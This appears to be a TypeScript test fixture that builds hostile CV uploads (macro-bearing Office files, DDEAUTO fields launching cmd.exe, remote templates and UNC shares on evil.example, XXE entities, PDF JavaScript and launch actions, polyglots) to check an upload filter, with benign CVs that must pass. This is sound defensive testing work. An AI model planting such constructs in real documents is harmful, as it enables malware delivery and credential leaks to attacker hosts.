/**
 * Hostile CV uploads, built in memory (no binary of unknown origin is committed): macro
 * documents in every disguise, objects, outside content, scripts in PDFs, encryption,
 * polyglots, truncated and tiny files, wrong extensions. Each names the code the route
 * must answer with; `plainCvs` are documents with ordinary links that must still pass.
 */
import { createHash } from 'node:crypto';
import zlib from 'node:zlib';
import { rc4 } from '../../src/check/pdf-crypt';
import * as make from './documents';
import { writeZip } from './zip';

type HostileCode =
  | 'file_unsafe_content'
  | 'file_macros'
  | 'file_old_format'
  | 'file_encrypted'
  | 'file_damaged'
  | 'file_type'
  | 'file_name_mismatch'
  | 'file_empty';
export type HostileFile = { label: string; name: string; content: Buffer; code: HostileCode };

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (...items: string[]) =>
  Buffer.from(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`
  );
const rel = (id: string, type: string, target: string, external = true) =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
const docxWithRels = (part: string, ...items: string[]) => make.docx([{ name: part, data: rels(...items) }]);
/** A DOCX with one more Word part (a header) whose body is given. */
function docxBody(body: string): Buffer {
  const xml = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
  return make.docx([{ name: 'word/header1.xml', data: Buffer.from(xml) }]);
}

/** A PDF object stream (PDF 1.5) holding one object, deflated. */
function objectStream(number: number, object: string): string {
  const index = `${number} 0 `;
  const data = zlib.deflateSync(Buffer.from(index + object, 'latin1')).toString('latin1');
  return `<< /Type /ObjStm /N 1 /First ${index.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`;
}

const spreadsheetMacro = () =>
  writeZip([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>' +
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
      )
    },
    { name: '_rels/.rels', data: rels(rel('rId1', 'officeDocument', 'xl/workbook.xml', false)) },
    { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') }
  ]);

const pdfThenZip = () => Buffer.concat([make.pdf(), make.plainZip()]);
/** A ZIP whose first entry is stored and starts with a PDF header: a reader may take it for a PDF. */
const zipThenPdf = () => writeZip([{ name: 'a.pdf', data: make.pdf(), method: 0 }, ...docxEntries()]);
function docxEntries() {
  return [
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
      )
    },
    { name: '_rels/.rels', data: rels(rel('rId1', 'officeDocument', 'word/document.xml', false)) },
    { name: 'word/document.xml', data: Buffer.from('<w:document/>') }
  ];
}

const half = (buf: Buffer) => buf.subarray(0, Math.floor(buf.length / 2));

/**
 * A permissions-only PDF (empty user password) as Acrobat writes one under /V 4 with a
 * 40-bit RC4 key: /U checks against the 5-byte key, while the object stream holding
 * `object` is encrypted with that key extended to 16 bytes with zeros (ISO 32000-2
 * algorithms 1, 2 and 5; the extension is Acrobat's, described in
 * https://github.com/mozilla/pdf.js/issues/19484).
 */
function acrobatShortKeyPdf(object: string): Buffer {
  const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest();
  const pad = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
  const owner = Buffer.alloc(32, 0x4f);
  const id = Buffer.alloc(16, 0x1d);
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(-3392);
  let key = md5(pad, owner, permissions, id, Buffer.from([0xff, 0xff, 0xff, 0xff])).subarray(0, 5);
  for (let i = 0; i < 50; i++) key = md5(key).subarray(0, 5);
  let user = rc4(key, md5(pad, id));
  for (let i = 1; i <= 19; i++) user = rc4(Buffer.from(key.map((b) => b ^ i)), user);
  const objectKey = md5(Buffer.concat([key, Buffer.alloc(11)]), Buffer.from([7, 0, 0, 0, 0]));
  const index = '8 0 ';
  const data = rc4(objectKey, zlib.deflateSync(Buffer.from(index + object, 'latin1'))).toString('latin1');
  return make.pdf('cv', {
    objects: [
      `<< /Filter /Standard /V 4 /R 4 /Length 40 /CF << /StdCF << /CFM /V2 /Length 5 >> >> /StmF /StdCF /StrF /StdCF /EncryptMetadata false /O <${owner.toString('hex')}> /U <${Buffer.concat([user, Buffer.alloc(16)]).toString('hex')}> /P -3392 >>`,
      `<< /Type /ObjStm /N 1 /First ${index.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`
    ],
    trailer: `/Encrypt 6 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]`
  });
}

/** An OLE1 native object header (MS-OLEDS 2.2.4) of the given class around `data`, as RTF's \datastore holds one. */
function ole1Native(className: string, data: Buffer): Buffer {
  const name = Buffer.from(`${className}\0`, 'latin1');
  const head = Buffer.alloc(12);
  head.writeUInt32LE(0x0501, 0);
  head.writeUInt32LE(2, 4);
  head.writeUInt32LE(name.length, 8);
  const tail = Buffer.alloc(12);
  tail.writeUInt32LE(data.length, 8);
  return Buffer.concat([head, name, tail, data]);
}

/** An RTF as Word 2007+ writes it: a \datastore and a \themedata destination, hex-encoded. */
function rtfWithWordData(datastore: Buffer, theme: Buffer, body = 'Curriculum vitae\\par'): Buffer {
  const hex = (b: Buffer) => b.toString('hex').replace(/(.{128})/g, '$1\n');
  return Buffer.from(`{\\rtf1\\ansi ${body}{\\*\\themedata ${hex(theme)}}{\\*\\datastore ${hex(datastore)}}}`, 'latin1');
}

/** A theme package as Word's \themedata carries one, with `extra` parts. */
function themePackage(extra: { name: string; data: Buffer }[] = []): Buffer {
  return writeZip([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>' +
          '<Override PartName="/theme/theme/theme1.xml" ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/></Types>'
      )
    },
    { name: '_rels/.rels', data: rels(rel('rId1', 'theme', 'theme/theme/theme1.xml', false)) },
    {
      name: 'theme/theme/theme1.xml',
      data: Buffer.from('<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Office"/>')
    },
    ...extra
  ]);
}

/** Word's custom XML store: a compound file of Item and Properties streams. */
const wordDatastore = () => ole1Native('Msxml2.SAXXMLReader.6.0', make.compoundFile([{ path: 'Item' }, { path: 'Properties' }]));

/** A PDF page with one link annotation to `uri`. */
const pdfLink = (uri: string) =>
  make.pdf('cv', { objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (' + uri + ') >> >>'] });

export function hostileFiles(): HostileFile[] {
  const unsafe = 'file_unsafe_content' as const;
  const macros = 'file_macros' as const;
  return [
    // Word 97 documents
    {
      label: 'a .doc whose macro storages are spelled mACROS/vBa',
      name: 'cv.doc',
      content: make.docWithMacros('mACROS', 'vBa'),
      code: macros
    },
    {
      label: 'a .doc with an Excel-style _vba_project_cur storage',
      name: 'cv.doc',
      content: make.docWithMacros('_vba_project_cur', 'vba'),
      code: macros
    },
    {
      label: 'a .doc with an embedded OLE package (ObjectPool)',
      name: 'cv.doc',
      content: make.doc([{ path: 'ObjectPool/_1234/\u0001Ole10Native' }]),
      code: unsafe
    },
    { label: 'an encrypted .doc', name: 'cv.doc', content: make.doc([], 0x0100), code: 'file_encrypted' },
    {
      label: 'an encrypted Word 2007 package named .docx',
      name: 'cv.docx',
      content: make.compoundFile([{ path: 'EncryptionInfo' }, { path: 'EncryptedPackage' }]),
      code: 'file_encrypted'
    },
    { label: 'a Word template (.dot) named .doc', name: 'cv.doc', content: make.doc([], 0x0001), code: 'file_type' },
    {
      label: 'a .doc with a DDEAUTO field that starts cmd.exe',
      name: 'cv.doc',
      content: make.docWithField('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
      code: unsafe
    },
    {
      label: 'a .doc with an INCLUDETEXT field',
      name: 'cv.doc',
      content: make.docWithField('INCLUDETEXT "\\\\evil.example\\s\\x.docx"'),
      code: unsafe
    },
    {
      label: 'a rights-managed (IRM) .doc',
      name: 'cv.doc',
      content: make.doc([{ path: '\u0006DataSpaces/Version' }, { path: '\tDRMContent' }]),
      code: 'file_encrypted'
    },
    { label: 'a Word 95 .doc', name: 'cv.doc', content: make.word95(), code: 'file_old_format' },
    // OOXML
    { label: 'a .docm renamed .docx', name: 'cv.docx', content: make.docm(), code: macros },
    {
      label: 'a .dotm renamed .docx',
      name: 'cv.docx',
      content: make.docx([], 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml'),
      code: macros
    },
    { label: 'an .xlsm renamed .docx', name: 'cv.docx', content: spreadsheetMacro(), code: macros },
    {
      label: 'a .docx with word/VBAPROJECT.BIN and no macro content type',
      name: 'cv.docx',
      content: make.docx([{ name: 'word/VBAPROJECT.BIN', data: Buffer.alloc(64, 1) }]),
      code: macros
    },
    {
      label: 'a .docx whose macro part is only declared by its content type',
      name: 'cv.docx',
      content: make.docx(
        [{ name: 'word/x.dat', data: Buffer.alloc(64, 1) }],
        undefined,
        '<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
      ),
      code: macros
    },
    {
      label: 'a .docx with an ActiveX control',
      name: 'cv.docx',
      content: make.docx([{ name: 'word/activeX/activeX1.xml', data: Buffer.from('<ax/>') }]),
      code: unsafe
    },
    {
      label: 'a .docx with an embedded OLE object',
      name: 'cv.docx',
      content: make.docx([{ name: 'word/embeddings/oleObject1.bin', data: make.doc() }]),
      code: unsafe
    },
    {
      label: 'a .docx that loads a remote template',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/settings.xml.rels', rel('rId1', 'attachedTemplate', 'https://evil.example/t.dotm')),
      code: unsafe
    },
    {
      label: 'a .docx whose template is on a file share (UNC)',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/settings.xml.rels', rel('rId1', 'attachedTemplate', '\\\\evil.example\\share\\t.dotm')),
      code: unsafe
    },
    {
      label: 'a .docx whose template is a file: URL with a host',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/settings.xml.rels', rel('rId1', 'attachedTemplate', 'file://evil.example/share/t.dotm')),
      code: unsafe
    },
    {
      label: 'a .docx with a frameset loading a web page',
      name: 'cv.docx',
      content: make.docx([
        {
          name: 'word/webSettings.xml',
          data: Buffer.from(
            '<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:frameset><w:frame><w:sourceFileName w:val="http://evil.example/x.html"/></w:frame></w:frameset></w:webSettings>'
          )
        }
      ]),
      code: unsafe
    },
    {
      label: 'a .docx with an external entity (XXE)',
      name: 'cv.docx',
      content: make.docx([
        {
          name: 'word/footer1.xml',
          data: Buffer.from('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "http://evil.example/">]><w:ftr>&e;</w:ftr>')
        }
      ]),
      code: unsafe
    },
    {
      label: 'a .docx with an external OLE link (mhtml:)',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/document.xml.rels', rel('rId9', 'oleObject', 'mhtml:https://evil.example/x!x-usc:y')),
      code: unsafe
    },
    {
      label: 'a .docx with a picture loaded from the web',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/document.xml.rels', rel('rId5', 'image', 'https://tracker.example/p.png')),
      code: unsafe
    },
    {
      label: 'a .docx linking to a file share',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/document.xml.rels', rel('rId6', 'hyperlink', 'file://evil.example/share/cv.lnk')),
      code: unsafe
    },
    {
      label: 'a .docx with a DDEAUTO field split across runs',
      name: 'cv.docx',
      content: docxBody(
        '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r>'
      ),
      code: unsafe
    },
    {
      label: 'a Word template (.dotx) renamed .docx',
      name: 'cv.docx',
      content: make.docx([], 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'),
      code: 'file_type'
    },
    // OpenDocument
    {
      label: 'an .odt with Basic macros',
      name: 'cv.odt',
      content: make.odt({ extra: [{ name: 'Basic/Standard/Module1.xml', data: Buffer.from('<script/>') }] }),
      code: macros
    },
    {
      label: 'an .odt whose manifest lists a macro library (other case)',
      name: 'cv.odt',
      content: make.odt({ manifest: '<manifest:file-entry manifest:full-path="basic/" manifest:media-type="text/xml"/>' }),
      code: macros
    },
    {
      label: 'an .odt that runs a macro on open',
      name: 'cv.odt',
      content: make.odt({
        body: '<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>'
      }),
      code: unsafe
    },
    {
      label: 'an .odt with a section loaded from the web',
      name: 'cv.odt',
      content: make.odt({
        body: '<text:section text:name="s"><text:section-source xlink:href="https://evil.example/s.odt"/></text:section>'
      }),
      code: unsafe
    },
    {
      label: 'an .odt with a picture from a file share',
      name: 'cv.odt',
      content: make.odt({ body: '<draw:frame><draw:image xlink:href="\\\\evil.example\\share\\p.png"/></draw:frame>' }),
      code: unsafe
    },
    {
      label: 'an .odt whose formula declares an external entity (XXE)',
      name: 'cv.odt',
      content: make.odt({
        extra: [
          {
            name: 'Object 1/content.xml',
            data: Buffer.from('<?xml version="1.0"?><!DOCTYPE math [<!ENTITY e SYSTEM "http://evil.example/">]><math>&e;</math>')
          }
        ]
      }),
      code: unsafe
    },
    {
      label: 'an .odt whose formula names a DTD on the web',
      name: 'cv.odt',
      content: make.odt({
        extra: [
          {
            name: 'Object 1/content.xml',
            data: Buffer.from(
              '<?xml version="1.0"?><!DOCTYPE math:math PUBLIC "-//W3C//DTD MathML 2.0//EN" "http://evil.example/math.dtd"><math:math/>'
            )
          }
        ]
      }),
      code: unsafe
    },
    {
      label: 'an encrypted .odt',
      name: 'cv.odt',
      content: make.odt({
        manifest:
          '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"><manifest:encryption-data/></manifest:file-entry>'
      }),
      code: 'file_encrypted'
    },
    {
      label: 'an OpenDocument template named .odt',
      name: 'cv.odt',
      content: make.odt({ mimetype: 'application/vnd.oasis.opendocument.text-template' }),
      code: 'file_type'
    },
    // PDF
    {
      label: 'a PDF that runs JavaScript when opened',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/OpenAction 6 0 R', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }),
      code: unsafe
    },
    {
      label: 'a PDF with /J#61vaScript written in hex escapes',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }),
      code: unsafe
    },
    {
      label: 'a PDF with a launch action',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
      code: unsafe
    },
    {
      label: 'a PDF with an embedded file',
      name: 'cv.pdf',
      content: make.pdf('cv', {
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
        objects: ['<< /Type /Filespec /F (a.exe) >>']
      }),
      code: unsafe
    },
    {
      label: 'a PDF with an XFA form',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/AcroForm << /XFA 6 0 R >>', objects: ['<< /Length 0 >>\nstream\n\nendstream'] }),
      code: unsafe
    },
    {
      label: 'a PDF with JavaScript inside a compressed object stream',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/OpenAction 7 0 R', objects: [objectStream(7, '<< /S /JavaScript /JS (app.alert(1)) >>')] }),
      code: unsafe
    },
    { label: 'a PDF linking to a file: URL', name: 'cv.pdf', content: pdfLink('file:///C:/Windows/System32/calc.exe'), code: unsafe },
    { label: 'a PDF linking to a file share (UNC)', name: 'cv.pdf', content: pdfLink('\\\\\\\\evil.example\\\\share'), code: unsafe },
    { label: 'a PDF linking to smb:', name: 'cv.pdf', content: pdfLink('smb://evil.example/share'), code: unsafe },
    {
      label: 'a PDF file attachment without /Type /EmbeddedFile',
      name: 'cv.pdf',
      content: make.pdf('cv', {
        objects: [
          '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /F (a.exe) /EF << /F 7 0 R >> >> >>',
          '<< /Length 2 >>\nstream\nMZ\nendstream'
        ]
      }),
      code: unsafe
    },
    {
      label: "JavaScript in an object stream under Acrobat's short-key permissions encryption",
      name: 'cv.pdf',
      content: acrobatShortKeyPdf('<< /S /JavaScript /JS (app.alert(1)) >>'),
      code: unsafe
    },
    {
      label: 'an encrypted PDF',
      name: 'cv.pdf',
      content: make.pdf('cv', { trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>' }),
      code: 'file_encrypted'
    },
    // RTF
    { label: 'an RTF with an embedded object', name: 'cv.rtf', content: make.rtfWithObject(), code: unsafe },
    {
      label: 'an RTF with an auto-updating linked object in capitals',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi {\\OBJECT\\OBJAUTLINK\\objupdate {\\*\\objclass Word.Document.8}}}'),
      code: unsafe
    },
    {
      label: 'an RTF with a remote template',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi{\\*\\template https://evil.example/t.dot}CV\\par}'),
      code: unsafe
    },
    {
      label: 'an RTF with an INCLUDEPICTURE field',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi{\\field{\\*\\fldinst {INCLUDE}{PICTURE "https://tracker.example/p.png"}}{\\fldrslt x}}\\par}'),
      code: unsafe
    },
    {
      label: 'an RTF whose template is on a file share (UNC)',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi{\\*\\template \\\\\\\\evil.example\\\\share\\\\t.dot}CV\\par}'),
      code: unsafe
    },
    {
      label: "an RTF whose \\datastore holds an Equation Editor object under Word's destination",
      name: 'cv.rtf',
      content: rtfWithWordData(ole1Native('Equation.3', make.compoundFile([{ path: '\u0001Ole10Native' }])), themePackage()),
      code: unsafe
    },
    {
      label: 'an RTF whose \\datastore compound file carries macros',
      name: 'cv.rtf',
      content: rtfWithWordData(ole1Native('Msxml2.SAXXMLReader.6.0', make.compoundFile([{ path: 'Macros/VBA/dir' }])), themePackage()),
      code: macros
    },
    {
      label: 'an RTF whose \\themedata package carries a VBA project',
      name: 'cv.rtf',
      content: rtfWithWordData(wordDatastore(), themePackage([{ name: 'theme/vbaProject.bin', data: Buffer.alloc(64, 1) }])),
      code: macros
    },
    {
      label: 'an RTF whose \\themedata is not hex',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi CV{\\*\\themedata PK\u0003\u0004 raw}}'),
      code: unsafe
    },
    {
      label: 'an RTF with a DDEAUTO field after an escaped backslash',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi C:\\\\x {\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}{\\fldrslt x}}}'),
      code: unsafe
    },
    {
      label: 'an RTF with a HYPERLINK field to a file share',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK "\\\\\\\\evil.example\\\\share\\\\x.lnk"}{\\fldrslt me}}}'),
      code: unsafe
    },
    {
      label: 'a .doc with a HYPERLINK field to file:',
      name: 'cv.doc',
      content: make.docWithField('HYPERLINK "file:///C:/x.lnk"'),
      code: unsafe
    },
    // Polyglots
    { label: 'a PDF with a ZIP appended (PDF+ZIP polyglot)', name: 'cv.pdf', content: pdfThenZip(), code: unsafe },
    { label: 'a ZIP that starts with a PDF (ZIP+PDF polyglot)', name: 'cv.docx', content: zipThenPdf(), code: unsafe },
    {
      label: 'an HTML page with a PDF after its script',
      name: 'cv.pdf',
      content: Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), make.pdf()]),
      code: unsafe
    },
    {
      label: 'a GIF carrying a script, named .pdf',
      name: 'cv.pdf',
      content: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;<script>alert(1)</script>', 'latin1'),
      code: 'file_type'
    },
    // Truncated, tiny and empty
    { label: 'a truncated PDF', name: 'cv.pdf', content: half(make.pdf()), code: 'file_damaged' },
    { label: 'a truncated DOCX', name: 'cv.docx', content: half(make.docx()), code: 'file_damaged' },
    { label: 'a truncated DOC', name: 'cv.doc', content: make.doc().subarray(0, 1000), code: 'file_damaged' },
    { label: 'a truncated RTF', name: 'cv.rtf', content: half(make.rtf()), code: 'file_damaged' },
    { label: 'a 1-byte file', name: 'cv.pdf', content: Buffer.from('%'), code: 'file_damaged' },
    { label: 'a 3-byte file', name: 'cv.pdf', content: Buffer.from('PK\x03', 'latin1'), code: 'file_damaged' },
    { label: 'an empty file', name: 'cv.pdf', content: Buffer.alloc(0), code: 'file_empty' },
    // Wrong extensions
    { label: 'a PDF named .docx', name: 'cv.docx', content: make.pdf(), code: 'file_name_mismatch' },
    { label: 'an RTF named .doc', name: 'cv.doc', content: make.rtf(), code: 'file_name_mismatch' },
    { label: 'a DOCX named .docm', name: 'cv.docm', content: make.docx(), code: 'file_name_mismatch' },
    { label: 'a true PDF named .exe', name: 'cv.exe', content: make.pdf(), code: 'file_name_mismatch' }
  ];
}

/** Ordinary CVs with the links and structures real ones have: they must still be taken. */
export function plainCvs(): { label: string; name: string; content: Buffer; format: string }[] {
  return [
    { label: 'a PDF', name: 'cv.pdf', content: make.pdf(), format: 'pdf' },
    {
      label: 'a PDF with a web link and a page-destination OpenAction',
      name: 'Jane.Smith CV.pdf',
      content: make.pdf('cv', {
        catalog: '/OpenAction [3 0 R /Fit]',
        objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.linkedin.com/in/jane/JavaScript) >> >>']
      }),
      format: 'pdf'
    },
    {
      label: 'a PDF with a clean compressed object stream and "HTML/JavaScript" in its title',
      name: 'cv.pdf',
      content: make.pdf('HTML/JavaScript developer', {
        trailer: '/Info 7 0 R',
        objects: [objectStream(7, '<< /Title (HTML/JavaScript developer) >>')]
      }),
      format: 'pdf'
    },
    { label: 'a DOCX', name: 'cv.docx', content: make.docx(), format: 'docx' },
    {
      label: 'a DOCX with web and e-mail hyperlinks',
      name: 'cv.docx',
      content: docxWithRels(
        'word/_rels/document.xml.rels',
        rel('rId5', 'hyperlink', 'https://example.org/me'),
        rel('rId6', 'hyperlink', 'mailto:jane@example.org'),
        rel('rId7', 'styles', 'styles.xml', false)
      ),
      format: 'docx'
    },
    {
      label: 'a DOCX with a HYPERLINK field',
      name: 'cv.docx',
      content: docxBody('<w:r><w:instrText> HYPERLINK "https://example.org" </w:instrText></w:r>'),
      format: 'docx'
    },
    { label: 'an ODT', name: 'cv.odt', content: make.odt(), format: 'odt' },
    {
      label: 'an ODT with a web link and an embedded picture',
      name: 'cv.odt',
      content: make.odt({
        body: '<text:p><text:a xlink:href="https://example.org/">me</text:a></text:p><draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>'
      }),
      format: 'odt'
    },
    {
      label: "an ODT with an OpenOffice formula naming its bare 'math.dtd'",
      name: 'cv.odt',
      content: make.odt({
        extra: [
          {
            name: 'Object 1/content.xml',
            data: Buffer.from(
              '<?xml version="1.0"?><!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "math.dtd"><math:math/>'
            )
          }
        ]
      }),
      format: 'odt'
    },
    { label: 'a DOC', name: 'cv.doc', content: make.doc(), format: 'doc' },
    { label: 'a DOC with an ObjectPool entry holding nothing', name: 'cv.doc', content: make.doc([{ path: 'ObjectPool' }]), format: 'doc' },
    { label: 'an RTF', name: 'cv.rtf', content: make.rtf(), format: 'rtf' },
    {
      label: 'an RTF with a picture and a hyperlink field',
      name: 'cv.rtf',
      content: Buffer.from(
        '{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK "https://example.org"}{\\fldrslt me}}{\\pict\\pngblip 89504e47}\\par}'
      ),
      format: 'rtf'
    },
    {
      label: 'an RTF as Word 2007+ writes it (\\datastore and \\themedata)',
      name: 'cv.rtf',
      content: rtfWithWordData(wordDatastore(), themePackage()),
      format: 'rtf'
    },
    {
      label: 'an RTF whose text shows the escaped word \\\\object',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi The \\\\object control word embeds OLE data.\\par}'),
      format: 'rtf'
    },
    {
      label: 'an RTF with a bookmark HYPERLINK field whose switch Word broke across lines',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi{\\field{\\*\\fldinst { HYPERLINK  \\\\\r\nl "Skills" }}{\\fldrslt Skills}}\\par}'),
      format: 'rtf'
    },
    {
      label: "an RTF made from a template on the author's disk",
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi{\\*\\template C:\\\\Users\\\\jane\\\\Templates\\\\CV.dotx}CV\\par}'),
      format: 'rtf'
    },
    {
      label: "a DOCX made from a template on the author's disk (Windows)",
      name: 'cv.docx',
      content: docxWithRels(
        'word/_rels/settings.xml.rels',
        rel('rId1', 'attachedTemplate', 'file:///C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm')
      ),
      format: 'docx'
    },
    {
      label: "a DOCX made from a template on the author's disk (Mac)",
      name: 'cv.docx',
      content: docxWithRels(
        'word/_rels/settings.xml.rels',
        rel(
          'rId1',
          'attachedTemplate',
          'Macintosh%20HD:Users:jane:Library:Group%20Containers:UBF8T346G9.Office:User%20Content:Templates:CV.dotx'
        )
      ),
      format: 'docx'
    },
    {
      label: 'a DOC with a web HYPERLINK field and a bookmark link',
      name: 'cv.doc',
      content: make.docWithField('HYPERLINK "https://example.org" \u0014x\u0015 \u0013 HYPERLINK \\l "_Toc1"'),
      format: 'doc'
    },
    { label: 'a DOC with a PAGE field', name: 'cv.doc', content: make.docWithField('PAGE \\* MERGEFORMAT'), format: 'doc' },
    {
      label: "a permissions-only PDF with Acrobat's short RC4 key (V4, 40-bit)",
      name: 'cv.pdf',
      content: acrobatShortKeyPdf('<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>'),
      format: 'pdf'
    },
    { label: 'a PDF with a link without a scheme', name: 'cv.pdf', content: pdfLink('www.example.org/jane'), format: 'pdf' }
  ];
}
